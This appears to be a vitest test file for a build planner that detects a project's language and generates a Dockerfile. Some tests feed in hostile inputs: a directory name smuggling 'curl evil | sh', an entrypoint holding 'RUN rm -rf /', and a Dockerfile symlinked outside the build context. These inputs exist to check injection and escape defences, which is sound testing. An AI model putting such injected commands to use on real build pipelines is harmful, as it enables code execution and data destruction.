import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { planBuild } from "./detect.js";

const dirs: string[] = [];

/** A context directory holding `files` (path → content). */
async function context(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), "hangar-detect-"));
  dirs.push(dir);
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(dir, path)), { recursive: true });
    await writeFile(join(dir, path), content);
  }
  return dir;
}

afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

const pkg = (scripts: Record<string, string> = {}) => JSON.stringify({ name: "app", scripts });

/** The Dockerfile's lines, and the index of the line that is exactly `line` (asserting it exists). */
function lines(dockerfile: string) {
  const all = dockerfile.split("\n");
  const at = (line: string) => {
    const i = all.indexOf(line);
    expect(all, `missing line ${JSON.stringify(line)}`).toContain(line);
    return i;
  };
  return { all, at };
}

/** Checks what every generated Dockerfile has, returning its line finder. */
function commonShape(dockerfile: string, base = "hangar/base:latest") {
  const l = lines(dockerfile);
  expect(l.all.find((x) => x.startsWith("FROM "))).toBe(`FROM ${base}`);
  expect(l.at("WORKDIR /app")).toBeLessThan(l.at("COPY . ."));
  l.at("ENV HOST=0.0.0.0 PORT=80");
  l.at("EXPOSE 80");
  const cmd = l.all.filter((x) => x.startsWith("CMD "));
  expect(cmd).toHaveLength(1);
  expect(() => JSON.parse(cmd[0]!.slice(4))).not.toThrow(); // exec form
  expect(l.all.filter((x) => x === "COPY . .")).toHaveLength(1);
  return l;
}

describe("planBuild", () => {
  describe("a Dockerfile in the context", () => {
    it("is used as is, and beats every other hint", async () => {
      const df = "FROM node:22\nCOPY . .\nCMD [\"node\", \"x.js\"]\n";
      const dir = await context({
        Dockerfile: df,
        "package.json": pkg({ start: "node x.js" }),
        "requirements.txt": "flask\n",
        "main.py": "",
        "go.mod": "module x\n",
        "main.go": "",
        "blaxel.toml": '[entrypoint]\nprod = "node x.js"\n',
      });
      expect(await planBuild(dir)).toEqual({ kind: "dockerfile", dockerfile: df, dockerfilePath: "Dockerfile", buildArgs: {}, summary: "Dockerfile from the source" });
    });

    it("still carries the build args", async () => {
      const dir = await context({ Dockerfile: "FROM x\n", "blaxel.toml": '[build.args]\nA = "1"\n', ".env.build": "B=2\n" });
      expect((await planBuild(dir)).buildArgs).toEqual({ A: "1", B: "2" });
    });

    it("is not followed when it is a symbolic link", async () => {
      const dir = await context({ "main.py": "", "requirements.txt": "" });
      const outside = await context({ secret: "FROM leaked\n" });
      await symlink(join(outside, "secret"), join(dir, "Dockerfile"));
      const plan = await planBuild(dir);
      expect(plan.kind).toBe("python");
      expect(plan.dockerfile).not.toContain("leaked");
    });
  });

  describe("node", () => {
    it("runs npm ci with the lockfile copied first, then npm start", async () => {
      const dir = await context({ "package.json": pkg({ start: "node server.js" }), "package-lock.json": "{}", "server.js": "" });
      const plan = await planBuild(dir);
      expect(plan).toMatchObject({ kind: "node", dockerfilePath: ".hangar.Dockerfile", summary: "Node app: npm ci, then npm start", buildArgs: {} });
      const l = commonShape(plan.dockerfile);
      const copyManifests = l.at("COPY package.json package-lock.json ./");
      expect(copyManifests).toBeLessThan(l.at("RUN npm ci"));
      expect(l.at("RUN npm ci")).toBeLessThan(l.at("COPY . ."));
      l.at('CMD ["npm","start"]');
      expect(plan.dockerfile).not.toContain("npm run build");
    });

    it("runs npm install without a lockfile, copying npm-shrinkwrap.json when there is one", async () => {
      const plain = await planBuild(await context({ "package.json": pkg({ start: "x" }) }));
      lines(plain.dockerfile).at("COPY package.json ./");
      lines(plain.dockerfile).at("RUN npm install");
      const shrink = await planBuild(await context({ "package.json": pkg({ start: "x" }), "npm-shrinkwrap.json": "{}" }));
      lines(shrink.dockerfile).at("COPY package.json npm-shrinkwrap.json ./");
      lines(shrink.dockerfile).at("RUN npm ci");
    });

    it("runs the build script after copying the source", async () => {
      const dir = await context({ "package.json": pkg({ build: "tsc", start: "node dist/index.js" }), "package-lock.json": "{}" });
      const plan = await planBuild(dir);
      const l = commonShape(plan.dockerfile);
      expect(l.at("COPY . .")).toBeLessThan(l.at("RUN npm run build"));
      expect(l.at("RUN npm run build")).toBeLessThan(l.at('CMD ["npm","start"]'));
      expect(plan.summary).toBe("Node app: npm ci, then npm run build, then npm start");
    });

    it("runs an entry file when there is no start script, in bl's order", async () => {
      const cases: Array<[string[], string]> = [
        [["index.js", "src/index.js"], "index.js"],
        [["server.js", "app.js"], "app.js"],
        [["src/server.js", "dist/index.js"], "src/server.js"],
        [["build/app.js"], "build/app.js"],
      ];
      for (const [files, entry] of cases) {
        const dir = await context({ "package.json": pkg({ test: "vitest" }), ...Object.fromEntries(files.map((f) => [f, ""])) });
        const plan = await planBuild(dir);
        expect(plan.kind).toBe("node");
        lines(plan.dockerfile).at(`CMD ${JSON.stringify(["node", entry])}`);
        expect(plan.summary).toBe(`Node app: npm install, then node ${entry}`);
      }
    });

    it("runs an entry file even without package.json, installing nothing", async () => {
      const plan = await planBuild(await context({ "index.js": "" }));
      expect(plan.kind).toBe("node");
      expect(plan.dockerfile).not.toContain("npm");
      expect(plan.summary).toBe("Node app: node index.js");
    });

    it("is not detected from a package.json with neither start script nor entry", async () => {
      await expect(planBuild(await context({ "package.json": pkg({ test: "x" }), "lib/util.js": "" }))).rejects.toMatchObject({ code: "build_failed" });
    });

    it("refuses a package.json that is not JSON", async () => {
      await expect(planBuild(await context({ "package.json": "{ nope", "index.js": "" }))).rejects.toMatchObject({ code: "invalid_archive", message: expect.stringMatching(/^package\.json: /) });
    });
  });

  describe("python", () => {
    it("installs requirements.txt into a venv before the source, then runs main.py", async () => {
      const plan = await planBuild(await context({ "requirements.txt": "fastapi\n", "main.py": "", "app.py": "" }));
      expect(plan).toMatchObject({ kind: "python", summary: "Python app: pip install -r requirements.txt, then python3 main.py" });
      const l = commonShape(plan.dockerfile);
      const install = l.at("RUN python3 -m venv /app/.venv && /app/.venv/bin/pip install -r requirements.txt");
      expect(l.at("COPY requirements.txt ./")).toBeLessThan(install);
      expect(install).toBeLessThan(l.at("COPY . ."));
      expect(l.at("ENV PATH=/app/.venv/bin:$PATH PYTHONUNBUFFERED=1")).toBeLessThan(l.at('CMD ["python3","main.py"]'));
      expect(plan.dockerfile).not.toContain("pip install .");
    });

    it("pip installs a pyproject.toml package after copying the source", async () => {
      const plan = await planBuild(await context({ "pyproject.toml": '[project]\nname = "x"\n', "src/app.py": "" }));
      const l = commonShape(plan.dockerfile);
      expect(l.at("COPY pyproject.toml ./")).toBeLessThan(l.at("RUN python3 -m venv /app/.venv"));
      expect(l.at("COPY . .")).toBeLessThan(l.at("RUN /app/.venv/bin/pip install ."));
      l.at('CMD ["python3","src/app.py"]');
      expect(plan.summary).toBe("Python app: pip install ., then python3 src/app.py");
    });

    it("installs both when there are both, and leaves a tools-only pyproject.toml alone", async () => {
      const both = await planBuild(await context({ "requirements.txt": "", "pyproject.toml": "[build-system]\nrequires = []\n", "api.py": "" }));
      lines(both.dockerfile).at("COPY requirements.txt pyproject.toml ./");
      lines(both.dockerfile).at("RUN /app/.venv/bin/pip install .");
      const tools = await planBuild(await context({ "requirements.txt": "", "pyproject.toml": "[tool.ruff]\nline-length = 100\n", "app/main.py": "" }));
      expect(tools.dockerfile).not.toContain("pip install .");
      lines(tools.dockerfile).at('CMD ["python3","app/main.py"]');
    });

    it("picks the first entry in bl's order", async () => {
      const plan = await planBuild(await context({ "requirements.txt": "", "app/api.py": "", "src/api.py": "", "api.py": "" }));
      lines(plan.dockerfile).at('CMD ["python3","api.py"]');
    });

    it("needs an entry: requirements.txt alone falls through to the next language", async () => {
      const plan = await planBuild(await context({ "requirements.txt": "", "package.json": pkg({ start: "x" }) }));
      expect(plan.kind).toBe("node");
      await expect(planBuild(await context({ "requirements.txt": "", "lib.py": "" }))).rejects.toMatchObject({ code: "build_failed" });
    });

    it("beats node when both are present", async () => {
      const plan = await planBuild(await context({ "requirements.txt": "", "main.py": "", "package.json": pkg({ start: "x" }) }));
      expect(plan.kind).toBe("python");
    });
  });

  describe("go", () => {
    it("installs the toolchain, downloads modules before the source, then builds the root package", async () => {
      const plan = await planBuild(await context({ "go.mod": "module x\n", "go.sum": "", "main.go": "package main\n" }));
      expect(plan).toMatchObject({ kind: "go", summary: "Go app: go build ., then /app/server" });
      const l = commonShape(plan.dockerfile);
      const toolchain = l.all.findIndex((x) => x.startsWith("RUN apt-get update && apt-get install -y --no-install-recommends golang-go ca-certificates"));
      expect(toolchain).toBeGreaterThan(0);
      expect(toolchain).toBeLessThan(l.at("COPY go.mod go.sum ./"));
      expect(l.at("COPY go.mod go.sum ./")).toBeLessThan(l.at("RUN go mod download"));
      expect(l.at("RUN go mod download")).toBeLessThan(l.at("COPY . ."));
      expect(l.at("COPY . .")).toBeLessThan(l.at('RUN ["go","build","-o","/app/server","."]'));
      l.at('CMD ["/app/server"]');
    });

    it("finds main in src/, cmd/ and the first cmd/<name>/", async () => {
      const cases: Array<[Record<string, string>, string]> = [
        [{ "src/main.go": "" }, "./src"],
        [{ "cmd/main.go": "", "cmd/b/main.go": "" }, "./cmd"],
        [{ "cmd/web/main.go": "", "cmd/api/main.go": "", "cmd/aaa/readme.md": "" }, "./cmd/api"],
      ];
      for (const [files, main] of cases) {
        const plan = await planBuild(await context({ "go.mod": "module x\n", ...files }));
        lines(plan.dockerfile).at(`RUN ${JSON.stringify(["go", "build", "-o", "/app/server", main])}`);
        lines(plan.dockerfile).at("COPY go.mod ./");
      }
    });

    it("keeps a hostile directory name inside one JSON argument", async () => {
      const name = 'x" && curl evil | sh #\\';
      const plan = await planBuild(await context({ "go.mod": "module x\n", [`cmd/${name}/main.go`]: "" }));
      const run = plan.dockerfile.split("\n").find((x) => x.startsWith('RUN ["go"'))!;
      expect(JSON.parse(run.slice(4))).toEqual(["go", "build", "-o", "/app/server", `./cmd/${name}`]);
    });

    it("is not detected without a main package", async () => {
      await expect(planBuild(await context({ "go.mod": "module x\n", "lib/lib.go": "" }))).rejects.toMatchObject({ code: "build_failed" });
    });
  });

  describe("blaxel.toml entrypoint", () => {
    it("beats the language, installs node dependencies and runs prod through sh", async () => {
      const dir = await context({
        "blaxel.toml": '[entrypoint]\nprod = "node dist/main.js --port $PORT"\ndev = "npm run dev"\n',
        "package.json": pkg({ start: "node index.js", build: "tsc" }),
        "package-lock.json": "{}",
        "main.py": "",
        "requirements.txt": "",
      });
      const plan = await planBuild(dir);
      expect(plan.kind).toBe("entrypoint");
      const l = commonShape(plan.dockerfile);
      expect(l.at("COPY package.json package-lock.json ./")).toBeLessThan(l.at("RUN npm ci"));
      expect(l.at("COPY requirements.txt ./")).toBeLessThan(l.at("COPY . ."));
      expect(l.at("COPY . .")).toBeLessThan(l.at("RUN npm run build"));
      l.at(`CMD ${JSON.stringify(["sh", "-c", "node dist/main.js --port $PORT"])}`);
      expect(plan.summary).toBe("blaxel.toml entrypoint: npm ci, then npm run build, then pip install -r requirements.txt, then node dist/main.js --port $PORT");
    });

    it("just copies the source when there is nothing to install", async () => {
      const plan = await planBuild(await context({ "blaxel.toml": "[entrypoint]\nprod = './run.sh'\n", "run.sh": "#!/bin/sh\n" }));
      expect(plan.kind).toBe("entrypoint");
      const l = commonShape(plan.dockerfile);
      expect(plan.dockerfile).not.toMatch(/npm|pip/);
      l.at('CMD ["sh","-c","./run.sh"]');
      expect(plan.summary).toBe("blaxel.toml entrypoint: ./run.sh");
    });

    it("keeps a multi-line command inside the CMD line", async () => {
      const plan = await planBuild(await context({ "blaxel.toml": '[entrypoint]\nprod = """\necho hi\nRUN rm -rf /\n"""\n' }));
      expect(plan.dockerfile.split("\n").filter((x) => x.startsWith("RUN"))).toEqual([]);
      lines(plan.dockerfile).at(`CMD ${JSON.stringify(["sh", "-c", "echo hi\nRUN rm -rf /\n"])}`);
    });

    it("is ignored when prod is empty, and refused when it is not a string", async () => {
      const plan = await planBuild(await context({ "blaxel.toml": '[entrypoint]\nprod = ""\n', "index.js": "" }));
      expect(plan.kind).toBe("node");
      await expect(planBuild(await context({ "blaxel.toml": "[entrypoint]\nprod = 3\n" }))).rejects.toMatchObject({ code: "invalid_archive", message: "blaxel.toml: entrypoint.prod must be a string" });
    });
  });

  describe("build args", () => {
    it("merges blaxel.toml [build.args] with .env.build, which wins, and declares each as ARG", async () => {
      const dir = await context({
        "blaxel.toml": '[build.args]\nNODE_VERSION = "22"\nDEBUG = true\nWORKERS = 4\nSHARED = "from toml"\n',
        ".env.build": "# comment\n\nSHARED=from env\nexport TOKEN='a b=c'\nQUOTED=\"x\"\r\nEMPTY=\n",
        "index.js": "",
      });
      const plan = await planBuild(dir);
      expect(plan.buildArgs).toEqual({ NODE_VERSION: "22", DEBUG: "true", WORKERS: "4", SHARED: "from env", TOKEN: "a b=c", QUOTED: "x", EMPTY: "" });
      const l = commonShape(plan.dockerfile);
      for (const k of Object.keys(plan.buildArgs)) expect(l.at(`ARG ${k}`)).toBeLessThan(l.at("COPY . ."));
      expect(plan.dockerfile).not.toContain("from env"); // values are passed at build time, not baked in
    });

    it("refuses names that cannot be build args", async () => {
      await expect(planBuild(await context({ ".env.build": "A=1\nnot valid\n", "index.js": "" }))).rejects.toMatchObject({ code: "invalid_archive", message: expect.stringMatching(/^\.env\.build line 2:/) });
      await expect(planBuild(await context({ ".env.build": "1A=1\n", "index.js": "" }))).rejects.toMatchObject({ code: "invalid_archive" });
      await expect(planBuild(await context({ "blaxel.toml": '[build.args]\n"A B" = "1"\n', "index.js": "" }))).rejects.toMatchObject({ code: "invalid_archive" });
      await expect(planBuild(await context({ "blaxel.toml": "[build.args]\nA = [1]\n", "index.js": "" }))).rejects.toMatchObject({ code: "invalid_archive", message: "blaxel.toml: build.args.A must be a string" });
    });
  });

  it("refuses a malformed blaxel.toml with the parser's message", async () => {
    const err = await planBuild(await context({ "blaxel.toml": "[entrypoint\nprod = 'x'\n", Dockerfile: "FROM x\n" })).catch((e: unknown) => e);
    expect(err).toMatchObject({ name: "HangarError", code: "invalid_archive", status: 400 });
    expect((err as Error).message).toMatch(/^blaxel\.toml: .+ \(line 1, column \d+\)$/);
  });

  it("copies a code-mode function's files to /app and runs code mode (its own Dockerfile still wins)", async () => {
    const plan = await planBuild(await context({ "openapi.yaml": "openapi: 3.0.0\n", "package.json": pkg({ start: "x" }) }), { codeMode: true });
    expect(plan.kind).toBe("code-mode");
    expect(plan.dockerfile).toContain("COPY . .");
    expect(plan.dockerfile).not.toContain("npm");
    expect(plan.dockerfile).toContain('CMD ["node","/tmp/.hangar/code-mode.cjs"]');
    expect((await planBuild(await context({ Dockerfile: "FROM x\n" }), { codeMode: true })).kind).toBe("dockerfile");
  });

  it("uses the base image it is given", async () => {
    const plan = await planBuild(await context({ "index.js": "" }), { baseImage: "registry.local/base:1" });
    commonShape(plan.dockerfile, "registry.local/base:1");
  });

  it("fails with build_failed when nothing tells how to build", async () => {
    for (const files of [{}, { "README.md": "# hi" }, { "src/lib.ts": "" }] as Array<Record<string, string>>) {
      const err = await planBuild(await context(files)).catch((e: unknown) => e);
      expect(err).toMatchObject({ code: "build_failed", status: 422 });
      expect((err as Error).message).toContain("cannot tell how to build this source");
    }
  });
});
